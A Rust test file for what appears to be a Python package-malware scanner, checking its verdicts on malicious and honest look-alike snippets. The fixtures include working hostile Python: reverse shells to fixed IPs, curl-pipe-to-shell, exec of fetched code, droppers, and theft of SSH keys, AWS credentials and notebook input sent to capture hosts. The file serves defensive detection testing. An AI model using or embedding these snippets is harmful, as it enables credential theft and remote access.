        "import base64\ncmd = base64.b64decode('ZWNobyBoaQ==').decode()\nrun = eval('o' + 's.sys' + 'tem')\nrun(cmd)\n",
    )]);
    assert!(
        has(&ev, "process-spawn", Behaviour::ProcessSpawn),
        "{}",
        dump(&ev)
    );
    assert!(
        of_rule(&ev, "obfuscation")
            .iter()
            .any(|e| e.message.contains("os.system")),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_python_dash_c_code_is_rescanned() {
    let ev = scan(&[(
        "demo-1.0/setup.py",
        r#"
import subprocess, sys
CODE = """
import requests
requests.post("https://webhook.site/0000-1111", json={"a": 1})
"""
subprocess.check_call([sys.executable, "-c", CODE])
"#,
    )]);
    assert!(
        has(&ev, "dynamic-exec", Behaviour::DynamicExec),
        "{}",
        dump(&ev)
    );
    assert!(
        ev.iter().any(|e| e.behaviour == Behaviour::ExfilEndpoint
            && e.member.as_deref().is_some_and(|m| m.ends_with("#decoded"))),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_wallet_secret_sent() {
    let ev = scan(&[(
        "demo-1.0/demo/wallet.py",
        "import requests\ndef sign(private_key):\n    body = {'key': private_key}\n    requests.post('https://api.x.example/tx', json=body)\n",
    )]);
    assert!(
        has_at_least(
            &ev,
            "credential-access",
            Behaviour::CredentialAccess,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
    let ev = scan(&[(
        "demo-1.0/demo/login.py",
        "import requests\ndef login(user, password):\n    return requests.post('https://api.x.example/login', data={'user': user, 'password': password})\n",
    )]);
    assert!(
        of_rule(&ev, "credential-access").is_empty(),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_download_and_run_across_helpers() {
    let ev = scan(&[(
        "demo-1.0/demo/__init__.py",
        "import requests, subprocess\ndef fetch(url, path):\n    with open(path, 'wb') as f:\n        f.write(requests.get(url).content)\ndef start(path):\n    subprocess.Popen(path)\nfetch('https://x.example/files/tool.exe', 'tool.exe')\nstart('tool.exe')\n",
    )]);
    assert!(
        has_at_least(
            &ev,
            "drop-executable",
            Behaviour::DropExecutable,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_python_program_written_and_run() {
    let ev = scan(&[(
        "demo-1.0/setup.py",
        r#"
import subprocess, os
PROGRAM = """
import socket, os, subprocess
s = socket.socket()
s.connect(('10.0.0.9', 9001))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(['/bin/sh', '-i'])
"""
def go():
    with open('helper.py', 'w') as f:
        f.write(PROGRAM)
    subprocess.Popen(['python3', 'helper.py'])
"#,
    )]);
    assert!(
        has_at_least(
            &ev,
            "drop-executable",
            Behaviour::DropExecutable,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
    assert!(
        ev.iter().any(|e| e.behaviour == Behaviour::ReverseShell),
        "{}",
        dump(&ev)
    );
}

// ---------------------------------------------------------------- text fallback

#[test]
fn rules_unparseable_file_falls_back_to_text() {
    let ev = scan(&[(
        "demo-1.0/setup.py",
        "print 'python 2'\nimport os, base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\nos.system('curl http://x.example/a | sh')\n",
    )]);
    assert!(
        has(&ev, "dynamic-exec", Behaviour::DecodeExec),
        "{}",
        dump(&ev)
    );
    assert!(
        has(&ev, "process-spawn", Behaviour::ProcessSpawn),
        "{}",
        dump(&ev)
    );
    assert!(
        has(&ev, "process-spawn", Behaviour::Download),
        "{}",
        dump(&ev)
    );
    assert!(
        ev.iter()
            .any(|e| e.member.as_deref().is_some_and(|m| m.ends_with("#decoded"))),
        "{}",
        dump(&ev)
    );
}

#[test]
fn rules_every_rule_is_documented() {
    let doc = include_str!("../../../../docs/scanner-rules.md");
    for r in ALL {
        let id = r.meta().id;
        assert!(
            doc.contains(&format!("## `{id}`")),
            "docs/scanner-rules.md lacks a section for {id}"
        );
        assert!(!r.meta().summary.is_empty());
    }
}

/// Calibration helper: `CORDON_SCAN_DIR=/path/to/py/files cargo test -p cordon-scan
/// rules_calibrate -- --ignored --nocapture` scans every `.py` file under the directories
/// (each as the `setup.py` of its own sdist when named so, else as package code) and prints
/// evidence counts per rule and behaviour.
#[test]
#[ignore = "needs CORDON_SCAN_DIR"]
fn rules_calibrate() {
    use std::collections::BTreeMap;
    let Ok(dir) = std::env::var("CORDON_SCAN_DIR") else {
        eprintln!("set CORDON_SCAN_DIR");
        return;
    };
    let mut files = Vec::new();
    let mut stack: Vec<std::path::PathBuf> = std::env::split_paths(&dir).collect();
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|x| x == "py") {
                files.push(p);
            }
        }
    }
    let mut counts: BTreeMap<(String, String, String), usize> = BTreeMap::new();
    let mut files_with: BTreeMap<String, usize> = BTreeMap::new();
    let start = std::time::Instant::now();
    for p in &files {
        if std::env::var_os("CORDON_SCAN_TRACE").is_some() {
            eprintln!("{}", p.display());
        }
        let data = std::fs::read(p).unwrap_or_default();
        let name = p.file_name().and_then(|n| n.to_str()).unwrap_or("x.py");
        let path = if name == "setup.py" {
            "demo-1.0/setup.py".to_owned()
        } else {
            format!("demo-1.0/demo/{name}")
        };
        let a = Artifact {
            path: "demo-1.0.tar.gz".into(),
            kind: ArtifactKind::Sdist,
            name: Some("demo".into()),
            version: Some("1.0".into()),
            members: vec![member(&path, &data)],
            reading: Vec::new(),
        };
        let ev = run(&a);
        if let Ok(show) = std::env::var("CORDON_SCAN_SHOW") {
            for e in &ev {
                let key = format!("{}/{}/{:?}", e.rule, e.behaviour.as_str(), e.severity);
                if show.split(',').any(|s| key.starts_with(s)) {
                    println!(
                        "{key} {}:{} {} | {}",
                        p.display(),
                        e.line.unwrap_or(0),
                        e.message,
                        e.snippet.as_deref().unwrap_or("")
                    );
                }
            }
        }
        let mut seen = std::collections::BTreeSet::new();
        for e in &ev {
            *counts
                .entry((
                    e.rule.to_owned(),
                    e.behaviour.as_str().to_owned(),
                    format!("{:?}", e.severity),
                ))
                .or_default() += 1;
            seen.insert(format!("{}/{}", e.rule, e.behaviour.as_str()));
        }
        for s in seen {
            *files_with.entry(s).or_default() += 1;
        }
    }
    println!("{} files in {:?}", files.len(), start.elapsed());
    for ((rule, b, sev), n) in &counts {
        println!("{rule:20} {b:18} {sev:8} {n}");
    }
    println!("--- files with at least one:");
    for (k, n) in &files_with {
        println!("{k:40} {n}");
    }
}

/// Calibration over artifacts streamed on stdin (nothing touches the disk): frames of
/// `ARTIFACT <kind> <name> <version>\n`, then `MEMBER <len> <path>\n<bytes>` per member, then
/// `END\n`. `cargo test -p cordon-scan rules_calibrate_stream -- --ignored --nocapture <
/// stream` prints the behaviours found per artifact and the verdict.
#[test]
#[ignore = "reads artifacts from stdin"]
fn rules_calibrate_stream() {
    use std::io::{BufRead, Read};
    let stdin = std::io::stdin();
    let mut input = stdin.lock();
    let mut line = String::new();
    let mut verdicts = std::collections::BTreeMap::<String, usize>::new();
    let mut total = 0;
    let start = std::time::Instant::now();
    loop {
        line.clear();
        if input.read_line(&mut line).unwrap_or(0) == 0 {
            break;
        }
        let mut parts = line.trim_end().splitn(4, ' ');
        if parts.next() != Some("ARTIFACT") {
            continue;
        }
        let kind = match parts.next() {
            Some("wheel") => ArtifactKind::Wheel,
            _ => ArtifactKind::Sdist,
        };
        let name = parts.next().unwrap_or("x").to_owned();
        let version = parts.next().unwrap_or("0").to_owned();
        let mut members = Vec::new();
        loop {
            line.clear();
            if input.read_line(&mut line).unwrap_or(0) == 0 {
                break;
            }
            let l = line.trim_end();
            if l == "END" {
                break;
            }
            let mut p = l.splitn(3, ' ');
            let _ = p.next();
            let len: usize = p.next().and_then(|x| x.parse().ok()).unwrap_or(0);
            let path = p.next().unwrap_or("").to_owned();
            let mut data = vec![0u8; len];
            input.read_exact(&mut data).unwrap();
            members.push(Member::new(path, data, 0));
        }
        let a = Artifact {
            path: format!("{name}-{version}"),
            kind,
            name: Some(name.clone()),
            version: Some(version),
            members,
            reading: Vec::new(),
        };
        let ev = run(&a);
        let mut kinds: std::collections::BTreeSet<String> = std::collections::BTreeSet::new();
        for e in &ev {
            if e.severity >= Severity::Low {
                kinds.insert(format!("{}:{:?}", e.behaviour.as_str(), e.severity).to_lowercase());
            }
        }
        let judged = crate::verdict::judge(&a, ev);
        total += 1;
        *verdicts
            .entry(judged.verdict.as_str().to_owned())
            .or_default() += 1;
        println!(
            "{:10} {:3} {name}: {}",
            judged.verdict.as_str(),
            judged.score,
            kinds.into_iter().collect::<Vec<_>>().join(" ")
        );
    }
    println!("{total} artifacts in {:?}: {verdicts:?}", start.elapsed());
}

// --- Flows judged across behaviours: each pair is a look-alike that must be caught and an
// --- honest neighbour that must stay clean.

fn verdict_of(files: &[(&str, &str)]) -> (crate::Verdict, Vec<String>) {
    let s = crate::scan(&sdist(files));
    (s.verdict, s.reasons)
}

#[test]
fn flows_exec_of_fetched_code_at_import_is_malicious() {
    let (v, why) = verdict_of(&[(
        "demo-1.0/demo/__init__.py",
        "exec(__import__('requests').get('http://updates.example.com/v').text)\n",
    )]);
    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
    // Reading a file of one's own and executing it is what version helpers do.
    let (v, why) = verdict_of(&[(
        "demo-1.0/demo/__init__.py",
        "import requests\nsrc = open('_version.py').read()\nexec(src)\nrequests.get('https://example.com')\n",
    )]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
}

#[test]
fn flows_one_chr_upstream_is_no_chr_chain_but_a_xor_loop_is() {
    let honest = "def f(params, vars):\n    for n in params:\n        params[n] = chr(params[n])\n    l = vars['len']\n    l = str(eval(l, {}, params))\n    return l\n";
    let ev = scan(&[("demo-1.0/demo/parse.py", honest)]);
    assert!(
        !has(&ev, "dynamic-exec", Behaviour::DecodeExec),
        "{}",
        dump(&ev)
    );
    let xor = "def run():\n    data = 'X^IZG@'\n    key = '1395545'\n    out = ''\n    for i in range(len(data)):\n        out += chr(ord(data[i]) ^ ord(key[i % len(key)]))\n    eval(compile(out, '<s>', 'exec'))\nrun()\n";
    let ev = scan(&[("demo-1.0/demo/test.py", xor)]);
    assert!(
        has(&ev, "dynamic-exec", Behaviour::DecodeExec),
        "{}",
        dump(&ev)
    );
    let joined =
        "codes = [112, 114, 105, 110, 116]\nexec(''.join(chr(c) for c in codes) + '(1)')\n";
    let ev = scan(&[("demo-1.0/demo/j.py", joined)]);
    assert!(
        has(&ev, "dynamic-exec", Behaviour::DecodeExec),
        "{}",
        dump(&ev)
    );
}

#[test]
fn flows_download_then_run_the_same_file() {
    let dropper = "import subprocess, urllib.request\ndef go(url, filename='s.vbs'):\n    urllib.request.urlretrieve(url, filename)\n    subprocess.run(['cscript', '//nologo', filename])\n";
    let ev = scan(&[("demo-1.0/demo/run.py", dropper)]);
    assert!(
        has_at_least(
            &ev,
            "drop-executable",
            Behaviour::DropExecutable,
            Severity::High
        ),
        "{}",
        dump(&ev)
    );
    let write_start = "import os, requests\ndef go(url):\n    p = os.path.join(os.environ['USERPROFILE'], 'AppData', 'Local', 'x.py')\n    r = requests.get(url)\n    with open(p, 'wb') as f:\n        f.write(r.content)\n    os.startfile(p)\ngo('https://example.com/x')\n";
    let (v, why) = verdict_of(&[("demo-1.0/demo/__init__.py", write_start)]);
    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
    // Downloading an archive and unpacking it runs nothing that was downloaded.
    let unpack = "import subprocess, urllib.request\ndef fetch(url, path):\n    urllib.request.urlretrieve(url, path)\n    subprocess.run(['tar', 'xzf', path])\n";
    let ev = scan(&[("demo-1.0/demo/fetch.py", unpack)]);
    assert!(
        !has(&ev, "drop-executable", Behaviour::DropExecutable),
        "{}",
        dump(&ev)
    );
}

#[test]
fn flows_requests_to_a_capture_service_are_suspicious_and_with_secrets_malicious() {
    let beacon = "import requests\nrequests.get('https://q8c2k1x9v7m3n5b4z6.oast.fun')\n";
    let (v, why) = verdict_of(&[("demo-1.0/demo/__init__.py", beacon)]);
    assert!(v >= crate::Verdict::Suspicious, "{why:?}");
    let aws = "import os, configparser, requests\ndef main():\n    hook = 'https://eo64g38fdes1lxm.m.pipedream.net'\n    c = configparser.ConfigParser()\n    c.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n    requests.post(hook, json={s: dict(c[s]) for s in c.sections()})\n";
    let (v, why) = verdict_of(&[("demo-1.0/demo/q.py", aws)]);
    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
    // An honest client: reads its own credentials file and calls its own API.
    let client = "import os, configparser, requests\ndef main():\n    c = configparser.ConfigParser()\n    c.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n    requests.post('https://api.example.com/v1', json={})\n";
    let (v, why) = verdict_of(&[("demo-1.0/demo/q.py", client)]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
}

#[test]
fn flows_notebook_input_sent_to_a_raw_ip_is_malicious() {
    let thief = "import sys, requests\ndef init():\n    if 'ipykernel' in sys.modules:\n        o = get_ipython().history_manager.input_hist_raw[-1]\n        requests.post('http://1.2.3.4/client', json={'l': o})\ninit()\n";
    let (v, _) = verdict_of(&[("demo-1.0/demo/markets.py", thief)]);
    let ev = scan(&[("demo-1.0/demo/markets.py", thief)]);
    assert_eq!(v, crate::Verdict::Malicious, "{}", dump(&ev));
    let magic = "def last(ip):\n    return ip.history_manager.input_hist_raw[-1]\n";
    let (v, why) = verdict_of(&[("demo-1.0/demo/magic.py", magic)]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
}

#[test]
fn flows_url_hidden_by_base64_with_host_facts_sent_is_malicious() {
    let url = encode_b64(b"https://6fdfcce6.example.net");
    let (a, b) = url.split_at(10);
    let canary = format!(
        "import base64, socket, urllib.request\nu1 = '{a}'\nu2 = '{b}'\nhostname = socket.gethostname()\nurl = base64.b64decode(f'{{u1}}{{u2}}').decode('utf-8') + f'?h={{hostname}}'\nurllib.request.urlopen(url)\n"
    );
    let ev = scan(&[("demo-1.0/demo/__init__.py", &canary)]);
    assert!(
        has_at_least(
            &ev,
            "exfil-endpoint",
            Behaviour::ExfilEndpoint,
            Severity::Medium
        ),
        "{}",
        dump(&ev)
    );
    let (v, why) = verdict_of(&[("demo-1.0/demo/__init__.py", &canary)]);
    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
    // A plain URL with the host name in a User-Agent is an update check, not hidden.
    let honest = "import socket, urllib.request\nurllib.request.urlopen(urllib.request.Request('https://example.com/latest', headers={'User-Agent': socket.gethostname()}))\n";
    let ev = scan(&[("demo-1.0/demo/__init__.py", honest)]);
    assert!(
        !has(&ev, "exfil-endpoint", Behaviour::ExfilEndpoint),
        "{}",
        dump(&ev)
    );
}

#[test]
fn flows_environment_and_identity_sent_is_malicious() {
    let dump_env = "import json, os, socket, urllib.request\ndef post(url):\n    data = {'hostname': socket.gethostname(), 'username': os.getlogin(), 'env': dict(os.environ)}\n    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n    urllib.request.urlopen(req)\n";
    let (v, why) = verdict_of(&[("demo-1.0/mlc.py", dump_env)]);
    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
    // Copying the environment for a child process is what launchers do.
    let launcher = "import os, subprocess, socket\nenv = dict(os.environ)\nenv['X'] = socket.gethostname()\nsubprocess.run(['tool'], env=env)\n";
    let (v, why) = verdict_of(&[("demo-1.0/demo/launch.py", launcher)]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
}

#[test]
fn flows_a_hidden_console_window_alone_is_clean() {
    let gs = "import subprocess, sys\ndef run(cmd):\n    si = None\n    if sys.platform.startswith('win'):\n        si = subprocess.STARTUPINFO()\n        si.dwFlags |= subprocess.STARTF_USESHOWWINDOW\n    subprocess.check_call(cmd, startupinfo=si)\n";
    let ev = scan(&[("demo-1.0/demo/gs.py", gs)]);
    assert!(
        has(&ev, "process-spawn", Behaviour::HiddenProcess),
        "{}",
        dump(&ev)
    );
    let (v, why) = verdict_of(&[("demo-1.0/demo/gs.py", gs)]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
}

#[test]
fn flows_a_program_that_is_no_build_tool_run_at_install_is_suspicious() {
    let canary = "import os\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nclass E(egg_info):\n    def run(self):\n        os.system(\"echo pwned > /tmp/pwned\")\n        egg_info.run(self)\nsetup(name='demo', cmdclass={'egg_info': E})\n";
    let (v, why) = verdict_of(&[("demo-1.0/setup.py", canary)]);
    assert_eq!(v, crate::Verdict::Suspicious, "{why:?}");
    let build = "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call(['git', 'describe', '--tags'])\nsubprocess.check_call(['cmake', '--build', '.'])\nsubprocess.check_call([sys.executable, '-m', 'cython', 'x.pyx'])\nsetup(name='demo')\n";
    let (v, why) = verdict_of(&[("demo-1.0/setup.py", build)]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
    // The same program in package code is a capability only.
    let pkg = "import subprocess\ndef open_editor():\n    subprocess.Popen(['notepad'])\n";
    let (v, why) = verdict_of(&[("demo-1.0/demo/ui.py", pkg)]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
}

#[test]
fn flows_sdk_credentials_put_into_a_request_body_are_malicious() {
    let thief = "import boto3, requests\ndef test():\n    cd = boto3.Session().get_credentials()\n    data = {'k': cd.access_key, 's': cd.secret_key}\n    requests.post('https://collector.example.com/zz', json=data, timeout=4)\ntest()\n";
    let (v, why) = verdict_of(&[("demo-1.0/demo/connection.py", thief)]);
    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
    // Signing a request with them is what an SDK does.
    let signer = "import boto3, requests\ndef call(url, body):\n    cd = boto3.Session().get_credentials()\n    headers = sign(cd.access_key, cd.secret_key, body)\n    return requests.post(url, data=body, headers=headers)\n";
    let (v, why) = verdict_of(&[("demo-1.0/demo/client.py", signer)]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
}

fn with_nested(files: &[(&str, &str, u8)]) -> Artifact {
    let mut a = sdist(&[]);
    a.members = files
        .iter()
        .map(|(p, d, depth)| Member::new((*p).to_owned(), d.as_bytes().to_vec(), *depth))
        .collect();
    a
}

#[test]
fn flows_an_archive_setup_py_loads_runs_at_install_and_a_disguised_one_is_hidden_code() {
    let loader = "import zipimport\nfrom setuptools import setup\nfrom setuptools.command.install import install\ndef test():\n    z = zipimport.zipimporter('my.zip')\n    m = z.load_module('my')\n    m.hello()\nclass I(install):\n    def run(self):\n        test()\n        install.run(self)\nsetup(name='demo', cmdclass={'install': I})\n";
    let beacon = "import requests, socket\ndef hello():\n    requests.get('https://webhook.site/0f8d2c1e-1111-2222-3333-444455556666', params={'h': socket.gethostname()})\n";
    let a = with_nested(&[
        ("demo-1.0/setup.py", loader, 0),
        ("demo-1.0/my.zip", "", 0),
        ("demo-1.0/my.zip!/my/__init__.py", beacon, 1),
    ]);
    let s = crate::scan(&a);
    assert_eq!(s.verdict, crate::Verdict::Malicious, "{:?}", s.reasons);
    // The same archive, shipped but not loaded by setup.py, is vendored data.
    let a = with_nested(&[
        ("demo-1.0/setup.py", HONEST_SETUP, 0),
        ("demo-1.0/my.zip", "", 0),
        ("demo-1.0/my.zip!/my/__init__.py", beacon, 1),
    ]);
    let s = crate::scan(&a);
    assert!(s.verdict < crate::Verdict::Malicious, "{:?}", s.reasons);

    let route = "import os, zipimport\ndef get(path):\n    cert = zipimport.zipimporter(f'{os.path.dirname(__file__)}/server.crt').load_module('SSLv2')\n    return cert.route(path)\n";
    let a = with_nested(&[
        ("demo-1.0/demo/routes.py", route, 0),
        (
            "demo-1.0/demo/server.crt!/SSLv2.py",
            "def route(p):\n    return p\n",
            1,
        ),
    ]);
    let ev = run(&a);
    assert!(
        has(&ev, "dynamic-exec", Behaviour::DecodeExec),
        "{}",
        dump(&ev)
    );
    // An honest zip application loads a `.pyz`.
    let a = with_nested(&[
        (
            "demo-1.0/demo/app.py",
            &route.replace("server.crt", "tools.pyz"),
            0,
        ),
        (
            "demo-1.0/demo/tools.pyz!/SSLv2.py",
            "def route(p):\n    return p\n",
            1,
        ),
    ]);
    let ev = run(&a);
    assert!(
        !has(&ev, "dynamic-exec", Behaviour::DecodeExec),
        "{}",
        dump(&ev)
    );
}

// --- Which rules a member is given (rules_for): tests, docs and vendored code get only what can
// --- still change the verdict there.

#[test]
fn tests_and_vendored_code_count_only_for_a_reverse_shell() {
    use crate::verdict::behaviours_that_count;
    for role in [MemberRole::Peripheral, MemberRole::Vendored] {
        assert_eq!(
            behaviours_that_count(role, false)
                .into_iter()
                .collect::<Vec<_>>(),
            [Behaviour::ReverseShell],
            "{role:?}"
        );
    }
    let package = behaviours_that_count(MemberRole::Package, false);
    for b in [
        Behaviour::CredentialAccess,
        Behaviour::NetworkSend,
        Behaviour::DecodeExec,
        Behaviour::ReverseShell,
    ] {
        assert!(package.contains(&b), "{b:?}");
    }
    // Every rule still runs on package and install-time code; the decoders run everywhere.
    let test_file = member("demo-1.0/tests/test_x.py", b"x = 1\n");
    let ids = |rules: &[&dyn Rule]| rules.iter().map(|r| r.meta().id).collect::<Vec<_>>();
    assert_eq!(
        ids(rules_for(
            &member("demo-1.0/demo/a.py", b""),
            MemberRole::Package
        ))
        .len(),
        ALL.len()
    );
    let mut nested = test_file.clone();
    nested.path = "demo-1.0/seed.zip!/tests/test_x.py".into();
    nested.depth = 1;
    assert_eq!(
        ids(rules_for(&nested, MemberRole::InstallTime)).len(),
        ALL.len()
    );
    let light = ids(rules_for(&test_file, MemberRole::Peripheral));
    for id in [
        "reverse-shell",
        "encoded-payload",
        "dynamic-exec",
        "drop-executable",
    ] {
        assert!(light.contains(&id), "{light:?}");
    }
    // A `.pth` file in a vendored archive still runs at every start once that is installed.
    let pth = member("demo-1.0/seed.zip!/x.pth", b"import os\n");
    let for_pth = ids(rules_for(&pth, MemberRole::Vendored));
    for id in ["pth-exec", "network", "process-spawn"] {
        assert!(for_pth.contains(&id), "{for_pth:?}");
    }
    assert!(!light.contains(&"credential-access"), "{light:?}");
}

#[test]
fn a_test_file_with_no_way_to_a_shell_is_not_parsed() {
    // Writing an executable and making it runnable is reported in package code ...
    let drop = "import os\ndef make(data):\n    with open('tool.exe', 'wb') as f:\n        f.write(data)\n    os.chmod('tool.exe', 0o755)\n";
    let ev = scan(&[("demo-1.0/demo/tools.py", drop)]);
    assert!(!of_rule(&ev, "drop-executable").is_empty(), "{}", dump(&ev));
    // ... but a test that does it names no socket, process, decoder or dynamic import, so it
    // could not count there: it is not parsed at all.
    let ev = scan(&[("demo-1.0/tests/test_tools.py", drop)]);
    assert!(ev.is_empty(), "{}", dump(&ev));
    // Once it also starts what it wrote, it is parsed and reported (without counting).
    let run = format!("{drop}    os.system('tool.exe')\n");
    let ev = scan(&[("demo-1.0/tests/test_tools.py", &run)]);
    assert!(!of_rule(&ev, "drop-executable").is_empty(), "{}", dump(&ev));
    // A reverse shell in a vendored file is still found.
    let shell = "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.5', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.system('/bin/sh -i')\n";
    let ev = scan(&[("demo-1.0/_vendor/net.py", shell)]);
    assert!(
        has(&ev, "reverse-shell", Behaviour::ReverseShell),
        "{}",
        dump(&ev)
    );
}

#[test]
fn flows_a_test_file_is_judged_on_what_counts_there() {
    let steal = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collect.example.com', data=key)\n";
    // In package code: malicious.
    let (v, why) = verdict_of(&[("demo-1.0/demo/__init__.py", steal)]);
    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
    // Uploading a public key is no theft.
    let (v, why) = verdict_of(&[(
        "demo-1.0/demo/__init__.py",
        &steal.replace("id_rsa", "id_rsa.pub"),
    )]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
    // In a test it could not change the verdict, so it is not even gathered.
    let ev = scan(&[("demo-1.0/tests/test_keys.py", steal)]);
    assert!(ev.is_empty(), "{}", dump(&ev));
    let (v, why) = verdict_of(&[("demo-1.0/tests/test_keys.py", steal)]);
    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
    // A reverse shell counts anywhere, also when a test decodes it from base64 before running it.
    let shell = "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('10.0.0.5', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n";
    let hidden = format!(
        "import base64\nexec(base64.b64decode('{}'))\n",
        encode_b64(shell.as_bytes())
    );
    for src in [shell.to_owned(), hidden] {
        let (v, why) = verdict_of(&[("demo-1.0/tests/test_net.py", &src)]);
        assert_eq!(v, crate::Verdict::Suspicious, "{src}: {why:?}");
    }
}
